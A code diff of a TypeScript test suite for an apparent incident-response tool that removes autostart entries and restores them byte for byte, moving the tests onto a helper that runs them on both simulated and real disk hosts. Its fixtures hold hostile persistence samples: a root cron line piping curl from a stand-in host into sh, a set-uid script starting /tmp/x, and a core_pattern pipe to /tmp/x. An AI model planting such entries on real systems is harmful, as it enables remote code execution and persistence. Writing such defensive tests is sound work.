@@ -2,7 +2,8 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
 import { assertRefused, assertThereAndBack, performed } from '../../test/actions.ts'
-import { type ChangeableHost, changeableHost, sha256Of, stepOf } from '../../test/control.ts'
+import { changeableHost, sha256Of, stepOf } from '../../test/control.ts'
+import { type EitherHost, onBoth, realAttributes } from '../../test/disk-host.ts'
 import { bytesOf, textOf } from '../core/bytes.ts'
 import type { Autostart } from '../core/facts/autostart.ts'
 import { isGap, known } from '../core/gap.ts'
@@ -15,12 +16,12 @@ const path = '/etc/cron.d/x'
 const line = '* * * * * root curl http://192.0.2.1/a|sh\n'
 const crontab = `# system\nMAILTO=""\n${line}@daily www true\n${line}# between\n${line}`
 
-function listed(host: ChangeableHost, kind = 'cron-d'): Autostart[] {
+function listed(host: EitherHost, kind = 'cron-d'): Autostart[] {
   return [...persistence.find(p => p.id === kind)!.list(host.host)].filter(known)
 }
 
 /** A step as planned on the host as it is now. */
-function stepFor(host: ChangeableHost, entry: Autostart, id = 'S01'): Step {
+function stepFor(host: EitherHost, entry: Autostart, id = 'S01'): Step {
   const digest = host.host.files.digest(entry.path, 'sha256')
   assert.ok(!isGap(digest))
   return stepOf({
@@ -31,17 +32,16 @@ function stepFor(host: ChangeableHost, entry: Autostart, id = 'S01'): Step {
   })
 }
 
-test('cuts one job out, and takes it back with every byte, mode, owner, time and attribute', () => {
-  const xattrs = { 'security.selinux': bytesOf('system_u:object_r:cron_spool_t\0') }
-  const host = changeableHost({ [path]: { content: crontab, mode: 0o600, uid: 7, immutable: true, xattrs } })
+onBoth('cuts one job out, and takes it back with every byte, mode, owner, time and attribute', hostOf => {
+  const host = hostOf({ [path]: { content: crontab, mode: 0o600, uid: 7, immutable: true, xattrs: { 'user.note': bytesOf('x') } } })
   const entry = listed(host)[1]!
   assertThereAndBack(disarmAutostart, stepFor(host, entry), host, () => {
     assert.equal(textOf(host.at(path)!.bytes), crontab.replace('@daily www true\n', ''))
   })
 })
 
-test('several entries of one file: last first, each on what the one before left, taken back in reverse', () => {
-  const host = changeableHost({ [path]: crontab })
+onBoth('several entries of one file: last first, each on what the one before left, taken back in reverse', hostOf => {
+  const host = hostOf({ [path]: crontab })
   const steps = listed(host)
     .map((entry, i) => stepFor(host, entry, `S0${i}`))
     .reverse()
@@ -73,8 +73,8 @@ test('several entries in any order: each is cut or refused, never another', () =
   )
 })
 
-test('a step below others is not taken back before them', () => {
-  const host = changeableHost({ [path]: crontab })
+onBoth('a step below others is not taken back before them', hostOf => {
+  const host = hostOf({ [path]: crontab })
   const [last, , first] = listed(host)
     .map((entry, i) => stepFor(host, entry, `S0${i}`))
     .reverse()
@@ -88,15 +88,15 @@ test('a step below others is not taken back before them', () => {
   assert.equal(disarmAutostart.undo(one, host), undefined)
 })
 
-test('what somebody else changed since the plan is drift, also when the entry still stands there', () => {
-  const host = changeableHost({ [path]: crontab })
+onBoth('what somebody else changed since the plan is drift, also when the entry still stands there', hostOf => {
+  const host = hostOf({ [path]: crontab })
   const step = stepFor(host, listed(host)[0]!)
   host.put(path, `${crontab}@daily root /usr/bin/new\n`)
   assertRefused(disarmAutostart, step, host, 'tampered')
 })
 
-test('what somebody else changed after the step is not overwritten when it is taken back', () => {
-  const host = changeableHost({ [path]: crontab })
+onBoth('what somebody else changed after the step is not overwritten when it is taken back', hostOf => {
+  const host = hostOf({ [path]: crontab })
   const go = performed(disarmAutostart, stepFor(host, listed(host)[0]!), host)
   host.put(path, 'owner wrote this\n')
   const before = host.picture()
@@ -105,8 +105,8 @@ test('what somebody else changed after the step is not overwritten when it is ta
   assert.deepEqual(host.picture(), before)
 })
 
-test('an entry that is gone, and a file that is gone, are refused', () => {
-  const host = changeableHost({ [path]: crontab })
+onBoth('an entry that is gone, and a file that is gone, are refused', hostOf => {
+  const host = hostOf({ [path]: crontab })
   const step = stepFor(host, listed(host)[1]!)
   host.put(path, '# nothing\n')
   assertRefused(disarmAutostart, { ...step, before: sha256Of('# nothing\n') }, host, 'absent')
@@ -114,16 +114,16 @@ test('an entry that is gone, and a file that is gone, are refused', () => {
   assertRefused(disarmAutostart, step, host, 'absent')
 })
 
-test('a whole file goes into the vault and comes back with set-uid, attributes and flags', () => {
+onBoth('a whole file goes into the vault and comes back with set-uid, attributes and flags', hostOf => {
   const node: Node = {
     content: '#!/bin/sh\n/tmp/x &\n',
     mode: 0o4755,
     uid: 3,
     gid: 4,
     immutable: true,
-    xattrs: { 'security.capability': Uint8Array.of(1, 0, 255) },
+    xattrs: realAttributes,
   }
-  const host = changeableHost({ '/etc/cron.hourly/x': node })
+  const host = hostOf({ '/etc/cron.hourly/x': node })
   const [entry] = listed(host, 'cron-hourly')
   const step = stepFor(host, entry!)
   assertThereAndBack(disarmAutostart, step, host, () => assert.equal(host.at('/etc/cron.hourly/x'), undefined))
@@ -132,8 +132,8 @@ test('a whole file goes into the vault and comes back with set-uid, attributes a
   assert.ok(isGap(disarmAutostart.verify(step, host)))
 })
 
-test('an entry found through symlinks is changed where it really lies; a link that is an entry goes itself', () => {
-  const host = changeableHost({
+onBoth('an entry found through symlinks is changed where it really lies; a link that is an entry goes itself', hostOf => {
+  const host = hostOf({
     '/lib': { link: 'usr/lib' },
     '/usr/lib/sysctl.d/9.conf': 'kernel.core_pattern=|/tmp/x %p\nvm.swappiness=1\n',
     '/etc/cron.hourly/x': { link: '../../opt/x' },
